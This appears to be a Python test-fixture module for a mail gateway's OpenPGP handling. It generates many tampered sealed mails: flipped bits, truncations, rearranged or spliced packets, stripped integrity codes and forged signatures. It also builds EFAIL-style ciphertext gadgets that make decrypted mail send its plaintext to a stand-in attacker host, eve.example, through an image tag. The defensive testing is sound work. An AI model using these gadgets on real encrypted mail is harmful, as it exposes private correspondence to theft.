"""Sealed OpenPGP mails, and all that an attacker can make of them; replayed from one seed."""

import random
from collections.abc import Callable, Iterator
from itertools import combinations

from pysequoia import ArmorKind, CipherSuite, Profile, SignatureMode, Tsk, armor, sign

from serving.encryption.certificates import generate_test_key
from serving.encryption.sealed import enclose, payload
from tests.unit.ciphertexts import (
    ENCRYPTED,
    PREFIX,
    PROTECTED,
    compressed,
    literal,
    packet,
    packets,
    protected,
    seal,
    session_key_packet,
)
from tests.unit.test_smime import MAIL, OUTER, OUTSIDE

BLOCK = 16
RANDOM = random.Random(20_261_125)  # noqa: S311
GATEWAY = Tsk.generate("Clarion <clarion@gate.example>")
EVE = Tsk.generate("Clarion <clarion@gate.example>")
ANN = Tsk.generate("Ann <ann@home.example>", profile=Profile.RFC4880, cipher_suite=CipherSuite.RSA2k)
ANN_GPG = Tsk.from_bytes(generate_test_key("ann@home.example", "Ann")[1].encode())
ANN_V6 = Tsk.generate("Ann <ann@home.example>", profile=Profile.RFC9580)
CERTIFICATE = ANN.extract_certificate()

UNUSED_BIT = 46 * 8
"""In the session key packet of ANN_GPG: the highest bit of a Curve25519 point, which RFC 7748 says to ignore."""

SESSION, OTHER_SESSION = RANDOM.randbytes(32), RANDOM.randbytes(32)
PAYLOAD = payload(MAIL, OUTER)
SIGNED = sign(GATEWAY.signer(), PAYLOAD, armor=False)
OTHER = sign(GATEWAY.signer(), PAYLOAD.swapcase(), armor=False)
SEALED = seal(SIGNED, CERTIFICATE, SESSION)
CIPHERTEXT = packets(SEALED)[1][-len(SIGNED) - 18 - 22 :]
BLOCKS = [CIPHERTEXT[start : start + BLOCK] for start in range(0, len(CIPHERTEXT), BLOCK)]

Tampered = Iterator[tuple[Tsk, bytes]]


def sealed(key: Tsk) -> bytes:
    """The packets of a mail as the gateway seals it."""
    armour = enclose(MAIL, OUTSIDE, key.extract_certificate(), GATEWAY)
    return b"".join(packets(armour[armour.index(b"-----BEGIN") : armour.index(b"\r\n--", armour.index(b"-----END"))]))


OURS = tuple((key, sealed(key)) for key in (ANN_GPG, ANN_V6))


def mail(message: bytes) -> bytes:
    """A mail that carries the message."""
    return b"Subject: [...]\r\n\r\n" + armor(message, ArmorKind.Message).encode()


def flipped(octets: bytes, bit: int) -> bytes:
    """The octets with one bit changed, counted from the highest of the first octet."""
    number = int.from_bytes(octets, "big") ^ 1 << len(octets) * 8 - 1 - bit
    return number.to_bytes(len(octets), "big")


def container(octets: bytes) -> bytes:
    """Ciphertext in a packet that claims to protect it."""
    return packet(PROTECTED, b"\x01" + octets)


def gadget(at: int, wanted: bytes) -> tuple[bytes, bytes]:
    """Two blocks of which the first decrypts to what an attacker wants, where the plaintext of block `at` is known.

    The second decrypts to noise (Poddebniak et al., Efail, USENIX Security 2018, section 5).
    """
    known = (PREFIX + SIGNED)[at * BLOCK : (at + 1) * BLOCK]
    return BLOCKS[at - 1], bytes(a ^ b ^ c for a, b, c in zip(BLOCKS[at], known, wanted.ljust(BLOCK), strict=True))


def leaking(at: int) -> bytes:
    """Ciphertext whose plaintext sends what stands behind block `at` to an attacker's web server."""
    opening = (*gadget(at, b"<img src='//"), *gadget(at, b"eve.example/?"))
    return b"".join((*BLOCKS[:at], *opening, *BLOCKS[at - 1 : -3], *gadget(at, b"'>"), *BLOCKS[-3:]))


def flips() -> Tampered:
    """One bit of every octet, and every bit of the session key packet and of what stands before the ciphertext."""
    for key, message in OURS:
        start = (len(packets(message)[0]) + 40) * 8
        for bit in (*range(start), *(8 * octet + RANDOM.randrange(8) for octet in range(start // 8, len(message)))):
            if key is ANN_GPG and bit == UNUSED_BIT:
                continue
            yield key, flipped(message, bit)


def truncated() -> Tampered:
    """Cut off at every third octet and at every packet, inside and outside, all lengths correct; lengthened."""
    for key, message in OURS:
        yield from ((key, message[:length]) for length in range(0, len(message), 3))
        yield from ((key, message + more) for more in (b"\0", literal(PAYLOAD), SIGNED, message[-22:]))
    inside = packets(SIGNED)
    yield from ((ANN, seal(b"".join(inside[:count]), CERTIFICATE, SESSION)) for count in range(len(inside)))
    yield from ((ANN, seal(SIGNED[:length], CERTIFICATE, SESSION)) for length in range(0, len(SIGNED), 5))
    yield from ((ANN, packets(SEALED)[0] + container(CIPHERTEXT[:-cut])) for cut in range(1, 3 * BLOCK))


def rearranged() -> Tampered:
    """Packets left out, repeated and exchanged, outside and inside."""
    for key, message in OURS:
        session, protected_data = packets(message)
        for parts in ((session,), (protected_data,), (session, session, protected_data), (protected_data, session)):
            yield key, b"".join(parts)
        yield key, b"".join((session, protected_data, protected_data))
    one_pass, content, signature = packets(SIGNED)
    orders: tuple[tuple[bytes, ...], ...] = (
        (content, signature, one_pass),
        (signature, content, one_pass),
        (one_pass, signature, content),
        (one_pass, content, content, signature),
        (one_pass, content, signature, content),
        (content, one_pass, content, signature),
        (one_pass, content),
        (content, signature),
        (one_pass, signature),
        (content,),
    )
    yield from ((ANN, seal(b"".join(order), CERTIFICATE, SESSION)) for order in orders)


def without_integrity() -> Tampered:
    """The modification detection code stripped, its version lowered, the packet made one that has none (tag 9)."""
    session, (_, modern) = packets(SEALED)[0], OURS[1]
    for tail in range(40):
        octets = CIPHERTEXT[: len(CIPHERTEXT) - tail]
        yield ANN, session + packet(ENCRYPTED, octets)
        yield ANN, session + packet(ENCRYPTED, b"\x01" + octets)
        yield ANN, session + packet(ENCRYPTED, BLOCKS[0] + octets[2:])
    for version in (0, 2, 3, 255):
        yield ANN, session + packet(PROTECTED, bytes((version,)) + CIPHERTEXT)
    for start in (1, 4, 36):  # version 2 holds the algorithms, then a salt, before the ciphertext
        yield ANN_V6, packets(modern)[0] + container(packets(modern)[1][3 + start :])
        yield ANN_V6, packets(modern)[0] + packet(ENCRYPTED, packets(modern)[1][3 + start :])


def spliced() -> Tampered:
    """One mail's session key before another's data, before both, and one block of another mail inside."""
    theirs = seal(OTHER, CERTIFICATE, OTHER_SESSION)
    (ours_key, ours), (their_key, data) = packets(SEALED), packets(theirs)
    for parts in ((ours_key, data), (their_key, ours), (their_key, ours_key, ours), (ours_key, their_key, data)):
        yield ANN, b"".join(parts)
    fresh = session_key_packet(CERTIFICATE, SESSION)
    yield ANN, fresh + SEALED
    for (one, message), (_, other) in combinations([*OURS, (ANN, SEALED)], 2):
        yield one, packets(message)[0] + packets(other)[1]
        yield one, packets(other)[0] + packets(message)[1]
    other_ciphertext = packets(protected(OTHER, SESSION))[0][-len(CIPHERTEXT) :]
    for at in range(len(BLOCKS)):
        start, end = at * BLOCK, (at + 1) * BLOCK
        exchanged = CIPHERTEXT[:start] + other_ciphertext[start:end] + CIPHERTEXT[end:]
        if exchanged != CIPHERTEXT:
            yield ANN, packets(SEALED)[0] + container(exchanged)


def gadgets() -> Tampered:
    """EFAIL's gadget at every place, with the modification detection code kept, made wrong and taken away."""
    session = packets(SEALED)[0]
    for at in range(2, len(BLOCKS) - 4):
        for octets in (leaking(at), leaking(at)[:-22], leaking(at) + bytes(22)):
            yield ANN, session + container(octets)
            yield ANN, session + packet(ENCRYPTED, octets)


def signed_by_nobody() -> Tampered:
    """Whatever anybody can make who has Ann's certificate, and the plaintext of mails that the gateway signed."""
    one_pass, content, signature = packets(SIGNED)
    _, other_content, other_signature = packets(OTHER)
    eves = packets(sign(EVE.signer(), PAYLOAD, armor=False))
    cleartext = sign(GATEWAY.signer(), PAYLOAD, mode=SignatureMode.CLEAR)
    detached = packets(sign(GATEWAY.signer(), PAYLOAD, mode=SignatureMode.DETACHED))[0]
    yield from ((ANN, octets) for octets in (SIGNED, content, compressed(SIGNED), cleartext, b"", PAYLOAD))
    for inside in (
        b"".join(eves),
        b"".join((one_pass, content, eves[2])),
        b"".join((one_pass, content, other_signature)),
        b"".join((one_pass, other_content, signature)),
        b"".join((signature, other_content)),
        b"".join((one_pass, literal(b""), signature)),
        b"".join((eves[0], one_pass, content, other_signature, eves[2])),
        literal(SIGNED) + detached,
        compressed(SIGNED),
        compressed(content),
        one_pass + compressed(content) + signature,
        SEALED,
        one_pass + SEALED + signature,
        bytes(GATEWAY.extract_certificate()) + content,
        cleartext,
        b"",
    ):
        yield ANN, seal(inside, CERTIFICATE, OTHER_SESSION)
    for bit in range(len(one_pass) * 8):
        yield ANN, seal(flipped(one_pass, bit) + OTHER[len(one_pass) :].replace(b"97 %", b"03 %"), CERTIFICATE, SESSION)


MANNERS: dict[str, tuple[Callable[[], Tampered], int]] = {
    "flips": (flips, 3000),
    "truncated": (truncated, 800),
    "rearranged": (rearranged, 20),
    "without integrity": (without_integrity, 130),
    "spliced": (spliced, 50),
    "gadgets": (gadgets, 250),
    "signed by nobody": (signed_by_nobody, 120),
}
